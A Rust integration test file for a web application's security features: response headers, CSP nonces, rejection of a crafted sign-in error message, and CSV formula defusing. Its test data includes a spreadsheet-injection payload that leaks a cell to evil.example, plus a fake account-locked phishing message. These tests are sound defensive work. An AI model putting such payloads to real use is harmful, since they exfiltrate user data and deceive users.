//! What every response carries and what it must not carry, over real HTTP: security headers,
//! the Content-Security-Policy nonce matching the page's scripts, crafted errors in the sign-in
//! URL, and spreadsheet formulas in the CSV export.

mod support;

use std::time::Duration;

use quiesce_core::auth::Role;
use quiesce_core::domain::PeerKind;
use quiesce_core::testing::TestDb;
use quiesce_core::Backend;
use serde_json::{json, Value};
use support::{TestApp, PASSWORD};

on_both_backends!(a_csv_export_defuses_cells_a_spreadsheet_would_run,);

fn header<'a>(r: &'a reqwest::Response, name: &str) -> &'a str {
    r.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("")
}

/// The nonce a Content-Security-Policy names.
fn nonce_of(csp: &str) -> String {
    let start = csp.find("'nonce-").expect("the policy names a nonce") + "'nonce-".len();
    csp[start..].split('\'').next().unwrap().to_string()
}

#[tokio::test]
async fn every_kind_of_response_carries_the_security_headers() {
    let app = TestApp::start_with(Backend::Sqlite, |c| c.secure_cookies = true).await;
    app.create_user("vera", Role::Viewer).await;
    let c = app.client();
    let responses = vec![
        ("sign-in page", c.get(app.url("/login")).send().await.unwrap()),
        ("page redirect", c.get(app.url("/mirrors")).send().await.unwrap()),
        (
            "API answer",
            c.post(app.url("/api/login"))
                .json(&json!({"username": "vera", "password": "nope nope nope"}))
                .send()
                .await
                .unwrap(),
        ),
        ("API refusal", c.get(app.url("/api/users")).send().await.unwrap()),
        (
            "cross-origin refusal",
            c.post(app.url("/api/logout")).header("origin", "http://evil.example").send().await.unwrap(),
        ),
        ("health", c.get(app.url("/healthz")).send().await.unwrap()),
        ("export", c.get(app.url("/export/window.csv?id=x")).send().await.unwrap()),
    ];
    for (what, r) in &responses {
        let csp = header(r, "content-security-policy");
        assert!(csp.contains("frame-ancestors 'none'") && csp.contains("'nonce-"), "{what}: {csp:?}");
        assert!(
            csp.contains("script-src 'self' 'nonce-") && csp.contains("'wasm-unsafe-eval'"),
            "{what}: {csp}"
        );
        assert_eq!(header(r, "x-content-type-options"), "nosniff", "{what}");
        assert_eq!(header(r, "referrer-policy"), "same-origin", "{what}");
        assert_eq!(header(r, "x-frame-options"), "DENY", "{what}");
        assert_eq!(header(r, "cache-control"), "no-store", "{what}");
        assert_eq!(header(r, "strict-transport-security"), "max-age=31536000", "{what}");
    }
    app.stop().await;
}

#[tokio::test]
async fn plain_http_sends_no_hsts() {
    let app = TestApp::start(Backend::Sqlite).await;
    let r = app.client().get(app.url("/login")).send().await.unwrap();
    assert_eq!(header(&r, "strict-transport-security"), "");
    assert_eq!(header(&r, "x-content-type-options"), "nosniff");
    app.stop().await;
}

#[tokio::test]
async fn the_page_scripts_carry_the_nonce_the_policy_names_and_it_changes_per_request() {
    let app = TestApp::start(Backend::Sqlite).await;
    let (_, client) = app.signed_in("vera", Role::Viewer).await;
    let mut seen = Vec::new();
    for path in ["/login", "/", "/login"] {
        let r = client.get(app.url(path)).send().await.unwrap();
        assert_eq!(r.status(), 200, "{path}");
        let nonce = nonce_of(header(&r, "content-security-policy"));
        let html = r.text().await.unwrap();
        let scripts = html.matches("<script").count();
        assert!(scripts > 0, "{path}: the page hydrates with a script");
        let with_nonce = html.matches(&format!("<script type=\"module\" nonce=\"{nonce}\"")).count()
            + html.matches(&format!("<script nonce=\"{nonce}\"")).count();
        assert_eq!(with_nonce, scripts, "{path}: every script carries the header's nonce\n{html}");
        seen.push(nonce);
    }
    assert!(seen[0] != seen[1] && seen[0] != seen[2], "a fresh nonce per response: {seen:?}");
    app.stop().await;
}

/// Standard base64 with the URL-safe alphabet and padding (what Leptos puts in `__err`).
fn base64_url(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[tokio::test]
async fn a_crafted_error_in_the_sign_in_url_is_not_shown() {
    let app = TestApp::start(Backend::Sqlite).await;
    let crafted = r#"{"error":"bad_request","message":"Your account is locked. Call +1 555 0100 now"}"#;
    let url = format!("/login?__path=%2Fapi%2Flogin&__err={}", url_encode(&base64_url(crafted.as_bytes())));
    let html = app.client().get(app.url(&url)).send().await.unwrap().text().await.unwrap();
    assert!(!html.contains("555 0100"), "the page shows the crafted text");
    assert!(html.contains("Sign-in failed; try again."), "the page shows its own words instead");
    // A genuine error kind still reads right, with its number bounded.
    let real = r#"{"error":"throttled","message":"anything","retry_after_seconds":1}"#;
    let url = format!("/login?__path=%2Fapi%2Flogin&__err={}", url_encode(&base64_url(real.as_bytes())));
    let html = app.client().get(app.url(&url)).send().await.unwrap().text().await.unwrap();
    assert!(html.contains("try again in 1 second."), "{html}");
    app.stop().await;
}

fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

async fn a_csv_export_defuses_cells_a_spreadsheet_would_run(backend: Backend) {
    let app = TestApp::start_with(backend, |c| {
        c.supervisor.poll_interval = Duration::from_millis(20);
        c.orchestrator.poll_interval = Duration::from_millis(20);
    })
    .await;
    let (_, admin) = app.signed_in("root", Role::Admin).await;
    // One replicating mirror, so the window has a row.
    let source = TestDb::peer(PeerKind::Sqlite).await;
    let pool = sqlx::SqlitePool::connect(&format!("{}?mode=rwc", source.url)).await.unwrap();
    sqlx::query("CREATE TABLE t (id INTEGER PRIMARY KEY, v TEXT)").execute(&pool).await.unwrap();
    pool.close().await;
    let dest = TestDb::peer(PeerKind::Sqlite).await;
    let mut ids = Vec::new();
    for (name, db) in [("src", &source), ("dst", &dest)] {
        let r = admin
            .post(app.url("/api/peers/create"))
            .json(&json!({"name": name, "url": db.url}))
            .send()
            .await
            .unwrap();
        ids.push(r.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string());
    }
    let r = admin
        .post(app.url("/api/mirrors/create"))
        .json(&json!({"name": "m1", "source_peer_id": ids[0], "dest_peer_id": ids[1], "tables": "t"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let mirror_running = || async {
        let list: Vec<Value> = admin.get(app.url("/api/mirrors")).send().await.unwrap().json().await.unwrap();
        list.iter().all(|m| m["status"] == "running")
    };
    for _ in 0..500 {
        if mirror_running().await {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let reason = r#"=HYPERLINK("http://evil.example/?leak="&A1,"upgrade")"#;
    let r = admin
        .post(app.url("/api/maintenance/enable"))
        .json(&json!({"reason": reason, "scope": "all"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let mut id = String::new();
    for _ in 0..500 {
        let s: Value =
            admin.get(app.url("/api/maintenance/status")).send().await.unwrap().json().await.unwrap();
        if s["window"]["phase"] == "enabled" {
            id = s["window"]["id"].as_str().unwrap().to_string();
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(!id.is_empty(), "the window was enabled");
    let csv = admin.get(app.url(&format!("/export/window.csv?id={id}"))).send().await.unwrap();
    assert_eq!(csv.status(), 200);
    let text = csv.text().await.unwrap();
    let row = text.lines().nth(1).expect("one row per mirror");
    assert!(row.contains(r#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""upgrade"")","#), "{row}");
    assert!(!row.contains(",=") && !row.contains(",\"="), "no cell starts with a formula: {row}");
    let _ = PASSWORD;
    app.stop().await;
}
